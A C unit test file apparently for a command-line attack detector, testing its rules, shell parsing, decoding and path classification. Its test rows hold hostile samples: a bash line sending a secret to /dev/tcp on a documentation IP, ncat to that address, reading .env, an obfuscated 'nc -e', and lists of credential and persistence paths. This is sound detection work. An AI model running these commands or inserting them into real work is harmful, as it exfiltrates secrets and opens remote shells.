/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Command lines, judged: ordinary work is silent, attacks are not, in disguise either. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>

#include <cmocka.h>

#include "base/mem.h"
#include "base/path.h"
#include "base/strv.h"
#include "monitor/command.h"
#include "monitor/decode.h"
#include "monitor/detect.h"
#include "monitor/places.h"
#include "monitor/rule.h"
#include "unit/monitor/corpus.h"

static const struct detect_settings plain = { 0 };

static void ordinary_work_is_silent(void **state) {
	size_t loud = 0;

	(void)state;
	for (size_t i = 0; i < ordinary_count; i++) {
		struct findings all;
		autofree char *line = sample_show(&ordinary[i]);

		sample_judge(&ordinary[i], &plain, &all);
		for (size_t k = 0; k < all.count; k++)
			print_message("%s\n  raises %s: %s\n", line, all.items[k].rule,
			              all.items[k].indicator);
		loud += all.count;
	}
	assert_int_equal(loud, 0);
	assert_true(ordinary_count > 120);
}

static void attacks_are_found_in_disguise_too(void **state) {
	size_t missed = 0;

	(void)state;
	for (size_t i = 0; i < attack_count; i++) {
		const struct attack *a = &attacks[i];

		for (size_t k = 0; k < ARRAY_SIZE(a->samples); k++) {
			autofree char *line = sample_show(&a->samples[k]);
			struct findings all;
			bool found = false;

			sample_judge(&a->samples[k], &plain, &all);
			for (size_t f = 0; f < all.count; f++)
				found |= all.items[f].level == a->level &&
				         !strncmp(all.items[f].rule, a->rule, strlen(a->rule)) &&
				         all.items[f].indicator[0];
			if (found)
				continue;
			missed++;
			print_message("%s, %zu: %s\n", a->name, k, line);
			for (size_t f = 0; f < all.count; f++)
				print_message("  only %s: %s\n", all.items[f].rule,
				              all.items[f].indicator);
		}
	}
	assert_int_equal(missed, 0);
}

/* Each row of each table fires for something of the corpus. */
static void no_rule_is_idle(void **state) {
	static const struct exec_rule *const tables[] = { rules_shell, rules_one_liner,
		                                          rules_environment, rules_files,
		                                          rules_tools };
	/* What the corpus has no line for: they have tests of their own below. */
	static const char *const elsewhere[] = {
		"ncat",        "one-liner.address",          "too-long",
		"secret.read", "reverse-shell.dev-tcp-data", NULL
	};

	(void)state;
	for (size_t t = 0; t < ARRAY_SIZE(tables); t++)
		for (const struct exec_rule *r = tables[t]; r->id; r++) {
			bool fired = word_in(r->id, elsewhere);

			assert_true(r->title && r->description && r->match);
			for (size_t i = 0; i < attack_count && !fired; i++)
				for (size_t k = 0; k < ARRAY_SIZE(attacks[i].samples); k++) {
					struct findings all;

					sample_judge(&attacks[i].samples[k], &plain, &all);
					for (size_t f = 0; f < all.count; f++)
						fired |= !strcmp(all.items[f].rule, r->id);
				}
			if (!fired)
				print_message("never: %s\n", r->id);
			assert_true(fired);
		}
}

/* ---- single rules */

static bool fires(const struct sample *s, const char *rule, enum audit_level level,
                  const struct detect_settings *set) {
	struct findings all;

	sample_judge(s, set, &all);
	for (size_t i = 0; i < all.count; i++)
		if (!strcmp(all.items[i].rule, rule) && all.items[i].level == level)
			return true;
	return false;
}

static void those_of_their_own(void **state) {
	static const struct {
		struct sample s;
		const char *rule;
		enum audit_level level;
	} rows[] = {
		{ { { "ncat", "203.0.113.10", "80" } }, "ncat", AUDIT_HIGH },
		{ { { "python3", "-c",
		      "import subprocess; subprocess.run(['ping','203.0.113.10'])" } },
		  "one-liner.address",
		  AUDIT_WARNING },
		{ { { "cat", "/workspace/.env" } }, "secret.read", AUDIT_WARNING },
		{ { { "bash", "-c", "cat secret > /dev/tcp/203.0.113.10/80" } },
		  "reverse-shell.dev-tcp-data",
		  AUDIT_CRITICAL },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
		assert_true(fires(&rows[i].s, rows[i].rule, rows[i].level, &plain));
}

static void one_liners_obey_their_setting(void **state) {
	const struct sample *s = &attacks[6].samples[0];
	const struct detect_settings warn = { .one_liners = DETECT_ONE_LINERS_WARN };
	const struct detect_settings off = { .one_liners = DETECT_ONE_LINERS_OFF };
	struct findings all;

	(void)state;
	assert_string_equal(attacks[6].name, "python one-liner");
	assert_true(fires(s, "one-liner.reverse-shell", AUDIT_CRITICAL, &plain));
	assert_true(fires(s, "one-liner.reverse-shell", AUDIT_WARNING, &warn));
	sample_judge(s, &off, &all);
	assert_int_equal(all.count, 0);
}

static void long_and_deep_lines_are_said_to_be(void **state) {
	autofree char *big = xcalloc(3 * 1024 * 1024 + 1, 1);
	autobuf struct buf deep;
	struct sample s = { { "bash", "-c", big } };
	struct rusage before, after;

	(void)state;
	memset(big, 'a', 3 * 1024 * 1024);
	assert_true(fires(&s, "too-long", AUDIT_WARNING, &plain));
	buf_init(&deep, 100000);
	for (int i = 0; i < 30; i++)
		buf_adds(&deep, "eval ");
	buf_adds(&deep, "bash -i");
	s.words[2] = deep.data;
	assert_true(fires(&s, "too-long", AUDIT_WARNING, &plain));
	/* Variables that double each other stay within the limits. */
	buf_reset(&deep);
	buf_adds(&deep, "a=xxxxxxxxxxxxxxxx;");
	for (int i = 0; i < 60; i++)
		buf_adds(&deep, "a=$a$a$a$a;");
	buf_adds(&deep, "echo $a");
	s.words[2] = deep.data;
	assert_true(fires(&s, "too-long", AUDIT_WARNING, &plain));
	/* So do braces. */
	buf_reset(&deep);
	buf_adds(&deep, "echo ");
	for (int i = 0; i < 40; i++)
		buf_adds(&deep, "{a,b}");
	s.words[2] = deep.data;

	struct findings all;

	sample_judge(&s, &plain, &all);
	/* And as many pairs as a word can have: no gigabytes. */
	buf_done(&deep);
	buf_init(&deep, 200000);
	buf_adds(&deep, "echo ");
	for (int i = 0; i < 26000; i++)
		buf_adds(&deep, "{a,b}");
	s.words[2] = deep.data;
	assert_int_equal(getrusage(RUSAGE_SELF, &before), 0);
	assert_true(fires(&s, "too-long", AUDIT_WARNING, &plain));
	assert_int_equal(getrusage(RUSAGE_SELF, &after), 0);
	assert_true(after.ru_maxrss - before.ru_maxrss < 256 * 1024);
}

/* ---- taking apart */

static void words_are_what_a_shell_makes_of_them(void **state) {
	static const struct {
		const char *text, *line;
	} rows[] = {
		{ "a'b'\"c\"\\d", "abcd" },
		{ "echo \"a b\" 'c  d' e", "echo 'a b' 'c  d' e" },
		{ "x=1 y='2 3'; cmd $x $y \"$y\"", "cmd 1 2 3 '2 3'" },
		{ "x${IFS}y$IFS'z'", "x y z" },
		{ "x {a,b{c,d},e}f", "x af bcf bdf ef" },
		{ "x {a} {,} a{b", "x '{a}' 'a{b'" },
		{ "$'\\x6e\\143' -e", "nc -e" },
		{ "c \\\n d", "c d" },
		{ "c # comment ; other", "c" },
		{ "n${u}c $@ x", "nc x" },
		{ "v=abcdef; c ${v:2:3} ${w:-def} ${w-g}", "c cde def g" },
		{ "c $(echo a b) `printf %s c`", "c a b c" },
		{ "c \"$(echo 'a  b')\"", "c 'a  b'" },
		{ "if true; then c d; fi", "c d" },
		{ "c a>b <d 2>&1", "c a" },
		{ "c ''", "c ''" },
		{ "c '", "c ''" },
		{ "c \"a", "c a" },
		{ "c $(", "c" },
		{ "c ${", "c" },
		{ "((", "" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		auto_commands struct commands all = { .budget = COMMAND_BUDGET,
		                                      .brace_budget = COMMAND_BUDGET };
		bool found = !*rows[i].line;

		commands_add_script(&all, rows[i].text, NULL);
		for (size_t k = 0; k < all.count; k++) {
			autofree char *line = strv_to_shell(all.items[k].words);

			found |= !strcmp(line, rows[i].line);
		}
		if (!found)
			print_message("%s\n", rows[i].text);
		assert_true(found);
	}
}

static void texts_are_decoded(void **state) {
	autobuf struct buf b;

	(void)state;
	buf_init(&b, 100);
	assert_true(decode_base64("aGVsbG8=", 8, &b));
	assert_string_equal(b.data, "hello");
	buf_reset(&b);
	assert_true(decode_base64("aGVs\nbG8", 8, &b));
	assert_string_equal(b.data, "hello");
	assert_false(decode_base64("a!b", 3, &b));
	buf_reset(&b);
	assert_true(decode_base32("NBSWY3DP", 8, &b));
	assert_string_equal(b.data, "hello");
	buf_reset(&b);
	assert_true(decode_hex("68 65 6c6c6F", 12, &b));
	assert_string_equal(b.data, "hello");
	buf_reset(&b);
	decode_escapes("\\x68\\145\\u006clo\\q\\", 19, &b);
	assert_string_equal(b.data, "hello\\q\\");
	assert_true(decode_is_text("abc\n", 4));
	assert_false(decode_is_text("\001\002\003a", 4));
	assert_false(decode_is_text("", 0));
}

static void languages_by_name(void **state) {
	(void)state;
	assert_int_equal(command_language("python3.11"), LANGUAGE_PYTHON);
	assert_int_equal(command_language("-bash"), LANGUAGE_SHELL);
	assert_int_equal(command_language("perl5.36.0"), LANGUAGE_PERL);
	assert_int_equal(command_language("lua5.4"), LANGUAGE_LUA);
	assert_int_equal(command_language("shred"), LANGUAGE_NONE);
	assert_int_equal(command_language(""), LANGUAGE_NONE);
	assert_int_equal(command_language("3"), LANGUAGE_NONE);
}

static void places_by_path(void **state) {
	static const struct {
		const char *path;
		enum place_kind kind;
		bool is;
	} rows[] = {
		{ "/home/x/.ssh/id_rsa", PLACE_SECRET, true },
		{ "/root/.ssh/id_ed25519", PLACE_SECRET, true },
		{ "~/.ssh/id_rsa", PLACE_SECRET, true },
		{ "~x/.netrc", PLACE_SECRET, true },
		{ ".ssh/id_rsa", PLACE_SECRET, true },
		{ "/home/x/.ssh/known_hosts", PLACE_SECRET, false },
		{ "/home/x/.ssh/id_rsa.pub", PLACE_SECRET, true },
		{ "/etc/shadow", PLACE_SECRET, true },
		{ "/etc/shadow-", PLACE_SECRET, true },
		{ "/etc/passwd", PLACE_SECRET, false },
		{ "/workspace/a/.env", PLACE_SECRET, true },
		{ ".env", PLACE_SECRET, true },
		{ "src/environment.ts", PLACE_SECRET, false },
		{ "/home/x/.mozilla/firefox/abc.default/logins.json", PLACE_SECRET, true },
		{ "/etc/cron.d/x", PLACE_PERSISTENCE, true },
		{ "/etc/crontab", PLACE_PERSISTENCE, true },
		{ "/home/x/.bashrc", PLACE_PERSISTENCE, true },
		{ "/home/x/y/.bashrc", PLACE_PERSISTENCE, false },
		{ "/workspace/.git/hooks/pre-commit", PLACE_PERSISTENCE, true },
		{ "", PLACE_SECRET, false },
		{ "/", PLACE_PERSISTENCE, false },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		if ((place_find(rows[i].path, rows[i].kind) != NULL) != rows[i].is)
			print_message("%s\n", rows[i].path);
		assert_int_equal(place_find(rows[i].path, rows[i].kind) != NULL, rows[i].is);
	}
}

static void hosts_in_texts(void **state) {
	static const struct {
		const char *text, *host;
		bool is_local;
	} rows[] = {
		{ "connect(('203.0.113.10',4444))", "203.0.113.10", false },
		{ "http://example.test:8080/x", "example.test", false },
		{ "('localhost',1)", NULL, true },
		{ "127.0.0.1:80", NULL, true },
		{ "version 1.2.3", NULL, false },
		{ "1.2.3.4.5", NULL, false },
		{ "300.1.1.1", NULL, false },
		{ "PATH=/usr/bin:/bin", NULL, false },
		{ "10:15:30", NULL, false },
		{ "{a:1}", NULL, false },
		{ "", NULL, false },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		size_t len = 0;
		bool is_local;
		const char *at = find_remote(rows[i].text, &len, &is_local);

		assert_int_equal(at != NULL, rows[i].host != NULL);
		if (at)
			assert_true(len == strlen(rows[i].host) && !strncmp(at, rows[i].host, len));
		assert_int_equal(is_local, rows[i].is_local);
	}
}

int main(void) {
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(ordinary_work_is_silent),
		cmocka_unit_test(attacks_are_found_in_disguise_too),
		cmocka_unit_test(no_rule_is_idle),
		cmocka_unit_test(those_of_their_own),
		cmocka_unit_test(one_liners_obey_their_setting),
		cmocka_unit_test(long_and_deep_lines_are_said_to_be),
		cmocka_unit_test(words_are_what_a_shell_makes_of_them),
		cmocka_unit_test(texts_are_decoded),
		cmocka_unit_test(languages_by_name),
		cmocka_unit_test(places_by_path),
		cmocka_unit_test(hosts_in_texts),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
